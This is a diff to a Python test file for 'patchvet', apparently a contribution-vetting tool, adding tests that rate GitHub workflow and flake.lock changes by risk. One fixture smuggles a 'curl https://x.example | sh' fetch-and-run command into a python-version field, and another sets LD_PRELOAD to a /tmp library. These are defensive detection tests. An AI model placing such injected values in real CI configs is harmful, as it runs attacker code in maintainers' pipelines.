@@ -7,8 +7,8 @@ from __future__ import annotations
 
 from patchvet.analyzers.ci_change import ci_change
 from patchvet.analyzers.dependency import dependency, lookalike, popular
-from patchvet.records import ChangeStatus
-from tests.helpers import added, contribution, subject
+from patchvet.records import ChangeStatus, Contribution, FileChange
+from tests.helpers import added, contribution, judge, subject
 
 
 def _ids(*files: object) -> list[str]:
@@ -163,3 +163,64 @@ def test_head_ref_in_a_run_script_is_still_injection() -> None:
     ]:
         workflow = added(".github/workflows/ci.yml", *lines)
         assert "ci-change/script-injection" in _ids(workflow), lines
+
+
+def judge_verdict(item: Contribution) -> str:
+    return judge(item).verdict.value
+
+
+def _workflow_severity(*files: FileChange) -> str:
+    item = contribution(files=files)
+    (found,) = [f for f in ci_change(subject(item)) if f.id == "ci-change/workflow"]
+    return found.severity.value
+
+
+def test_inert_workflow_edits_are_reported_but_not_flagged() -> None:
+    """Dependabot-style bumps of GitHub's own actions flagged 1 in 10 honest commits."""
+    bump = added(".github/workflows/ci.yml", "      - uses: actions/checkout@v4")
+    assert _workflow_severity(bump) == "info"
+    settings = added(
+        ".github/workflows/ci.yml",
+        "    runs-on: ubuntu-22.04",
+        "    timeout-minutes: 30",
+        '        python-version: ["3.10", "3.11"]',
+        "        - '3.12'",
+        "    - cron: '0 0 * * *'",
+        "# a comment",
+    )
+    assert _workflow_severity(settings) == "info"
+    removed = FileChange(".github/workflows/old.yml", ChangeStatus.DELETED, deletions=30)
+    assert _workflow_severity(removed) == "info"
+    item = contribution(files=(bump,))
+    assert judge_verdict(item) == "pass"
+
+
+def test_workflow_edits_that_can_run_something_new_are_still_flagged() -> None:
+    for lines in [
+        ("      - uses: someone/action@v2",),
+        ("      - run: make test",),
+        ("    runs-on: self-hosted",),
+        ('        python-version: ["3.10; curl https://x.example | sh"]',),
+        ("    env:", "      LD_PRELOAD: /tmp/x.so"),
+        ("      - run: |", "          - master"),
+    ]:
+        assert _workflow_severity(added(".github/workflows/ci.yml", *lines)) == "medium", lines
+    narrowed = FileChange(".github/workflows/ci.yml", ChangeStatus.MODIFIED, deletions=2)
+    assert _workflow_severity(narrowed) == "medium"  # removing `permissions:` widens the token
+
+
+def test_flake_lock_repins_are_not_flagged_new_sources_are() -> None:
+    """`nix flake update` commits made 1 in 20 honest ghostty commits not pass."""
+    repin = added(
+        "flake.lock",
+        '        "lastModified": 1672273408,',
+        '        "narHash": "sha256-kpFM+fNWH9iNNq6Bt0SCycKwEQQHL/m1v/q9czw332M=",',
+        '        "rev": "46fea4220102f761063877ec5b7fe2bcbe05663e",',
+    )
+    repin = FileChange(repin.path, repin.status, 3, 3, added_lines=repin.added_lines)
+    (found,) = list(dependency(subject(contribution(files=(repin,)))))
+    assert (found.id, found.severity.value) == ("dependency/lockfile-only", "info")
+    moved = added("flake.lock", '        "owner": "someone-else",', '        "rev": "0123abcd",')
+    moved = FileChange(moved.path, moved.status, 2, 2, added_lines=moved.added_lines)
+    (found,) = list(dependency(subject(contribution(files=(moved,)))))
+    assert found.severity.value == "low"
